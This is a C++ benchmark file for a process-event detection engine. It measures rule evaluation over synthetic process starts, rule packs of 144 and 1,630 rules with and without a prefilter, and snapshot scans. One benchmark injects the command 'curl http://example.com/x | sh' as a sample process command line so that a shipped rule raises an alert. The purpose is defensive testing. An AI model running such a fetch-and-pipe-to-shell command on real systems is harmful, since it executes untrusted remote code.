// Event rules over new events as they arrive. Every rule we ship, over ten processes that started: ordinary ones and
// one that rules want; and packs of rules over batches of a hundred, each with arguments never seen before.
#include <benchmark/benchmark.h>

#include <algorithm>
#include <fstream>
#include <memory>
#include <string>
#include <vector>

#include "daemoneye/base/clock.h"
#include "ingest/detector.h"
#include "made_up.h"
#include "mirror/mirror.h"
#include "mirror/session.h"
#include "rule_pack.h"
#include "samples.h"

namespace {

using de::bench::thread_cpu_ms;

constexpr std::size_t kStarts = 10;

std::vector<de::ingest::NewEvent> starts(de::bench::MadeUpHost& host, const std::string& last_line) {
  const auto collector = std::make_shared<const std::string>("procmond");
  std::vector<de::ingest::NewEvent> out;
  const de::pb::EventBatch batch = host.events(2 * kStarts, 1, 1'767'225'600'000);
  for (const auto& event : batch.events()) {
    if (out.size() == kStarts || event.event_type() != de::pb::EVENT_TYPE_START) continue;
    out.push_back({collector, std::make_shared<const de::pb::ProcessEvent>(event)});
  }
  if (last_line.empty() || out.empty()) return out;
  auto hit = std::make_shared<de::pb::ProcessEvent>(*out.back().event);
  de::pb::ProcessRecord& process = *hit->mutable_process();
  process.set_name("bash");
  process.set_executable_path("/usr/bin/bash");
  process.clear_command_line();
  for (const char* argument : {"bash", "-c"}) process.add_command_line(argument);
  process.add_command_line(last_line);
  out.back().event = std::move(hit);
  return out;
}

// With argument 1, one of the ten raises an alert.
void event_rules(benchmark::State& state) {
  de::ingest::DetectorOptions options;
  options.rules_dirs = {DE_SOURCE_DIR "/packaging/rules"};
  options.budget = de::mirror::kRuleBudget;
  auto detector = de::ingest::Detector::open(std::move(options), de::system_clock());
  if (!detector || !(*detector)->report()->rules->errors.empty()) return state.SkipWithError("the rules do not load");
  de::bench::MadeUpHost host(1'000);
  const auto events = starts(host, state.range(0) == 0 ? "" : "curl http://example.com/x | sh");
  if (events.size() != kStarts) return state.SkipWithError("there are not enough events");
  de::pb::Completeness whole;
  whole.set_complete(true);
  std::uint64_t rules_run = 0;
  std::uint64_t alerts = 0;
  const double begin = thread_cpu_ms();
  for (auto _ : state) {
    const auto round = (*detector)->run_events(events, whole);
    rules_run += round.rules_run;
    alerts += round.alerts.size();
  }
  const auto rounds = static_cast<double>(state.iterations());
  const auto report = (*detector)->report();
  const auto on_event =
      std::ranges::count_if(report->rules->rules, [](const auto& rule) { return rule->runs_on_event(); });
  state.counters["batch_cpu_us"] = (thread_cpu_ms() - begin) * 1'000 / rounds;
  state.counters["rules"] = static_cast<double>(report->rules->rules.size());
  state.counters["on_event"] = static_cast<double>(on_event);
  state.counters["rules_run"] = static_cast<double>(rules_run) / rounds;
  state.counters["alerts"] = static_cast<double>(alerts) / rounds;
}
BENCHMARK(event_rules)->Arg(0)->Arg(1)->Unit(benchmark::kMicrosecond);

constexpr std::size_t kBatch = 100;

double resident_mb() {
  std::ifstream file("/proc/self/statm");
  double pages = 0;
  file >> pages >> pages;
  return pages * 4'096 / 1e6;
}

// A pack of `range(0)` rules (that of Linux when it is small), with the prefilter or without.
void rule_pack(benchmark::State& state) {
  const auto count = static_cast<std::size_t>(state.range(0));
  const de::bench::ScratchDir dir;
  de::bench::write_pack(dir.path(), count < 1'000 ? de::bench::Pack::Linux : de::bench::Pack::All, count);
  de::ingest::DetectorOptions options;
  options.rules_dirs = {dir.path()};
  options.budget = de::mirror::kRuleBudget;
  options.batch.prefilter = state.range(1) != 0;
  const double before_mb = resident_mb();
  const double load_begin = thread_cpu_ms();
  auto detector = de::ingest::Detector::open(std::move(options), de::system_clock());
  const double load_ms = thread_cpu_ms() - load_begin;
  if (!detector || !(*detector)->report()->rules->errors.empty()) return state.SkipWithError("the rules do not load");
  const auto collector = std::make_shared<const std::string>("procmond");
  de::bench::Starts starts;
  de::pb::Completeness whole;
  whole.set_complete(true);
  std::uint64_t rules_run = 0, alerts = 0;
  double total_ms = 0, worst_ms = 0;
  for (auto _ : state) {
    state.PauseTiming();
    std::vector<de::ingest::NewEvent> events;
    for (std::size_t i = 0; i < kBatch; ++i) events.push_back({collector, starts.next()});
    state.ResumeTiming();
    const double begin = thread_cpu_ms();
    const auto round = (*detector)->run_events(events, whole);
    const double took = thread_cpu_ms() - begin;
    total_ms += took;
    worst_ms = std::max(worst_ms, took);
    rules_run += round.rules_run;
    alerts += round.alerts.size();
  }
  const auto rounds = static_cast<double>(state.iterations());
  state.counters["load_ms"] = load_ms;
  state.counters["events_per_s"] = rounds * kBatch / (total_ms / 1'000);
  state.counters["worst_batch_ms"] = worst_ms;
  state.counters["rules_run"] = static_cast<double>(rules_run) / rounds;
  state.counters["alerts"] = static_cast<double>(alerts) / rounds;
  state.counters["resident_mb"] = resident_mb();
  state.counters["rules_mb"] = resident_mb() - before_mb;
}
BENCHMARK(rule_pack)->Args({144, 1})->Args({144, 0})->Args({1'630, 1})->Args({1'630, 0})->Unit(benchmark::kMillisecond);

// A snapshot, with a pack and everything we ship loaded.
void pack_snapshot(benchmark::State& state) {
  const de::bench::ScratchDir dir;
  de::bench::write_pack(dir.path(), de::bench::Pack::All, static_cast<std::size_t>(state.range(1)));
  de::ingest::DetectorOptions options;
  options.rules_dirs = {dir.path(), DE_SOURCE_DIR "/packaging/rules"};
  options.budget = de::mirror::kRuleBudget;
  auto detector = de::ingest::Detector::open(std::move(options), de::system_clock());
  if (!detector || !(*detector)->report()->rules->errors.empty()) return state.SkipWithError("the rules do not load");
  de::bench::MadeUpHost host(static_cast<std::uint32_t>(state.range(0)));
  auto mirror = de::mirror::Mirror::create();
  if (!mirror || !(*mirror)->begin_scan(1, 1'767'225'600'000)) return state.SkipWithError("there is no mirror");
  for (const auto& record : host.processes()) (void)(*mirror)->upsert(record, record.SerializeAsString());
  const auto image = (*mirror)->finish_scan();
  if (!image) return state.SkipWithError("there is no snapshot");
  de::pb::Completeness whole;
  whole.set_complete(true);
  std::uint64_t rules_run = 0;
  const double begin = thread_cpu_ms();
  for (auto _ : state) rules_run += (*detector)->run(*image, whole).rules_run;
  const auto rounds = static_cast<double>(state.iterations());
  state.counters["snapshot_cpu_ms"] = (thread_cpu_ms() - begin) / rounds;
  state.counters["rules_run"] = static_cast<double>(rules_run) / rounds;
}
BENCHMARK(pack_snapshot)->Args({10'000, 1'630})->Iterations(20)->Unit(benchmark::kMillisecond);

}  // namespace
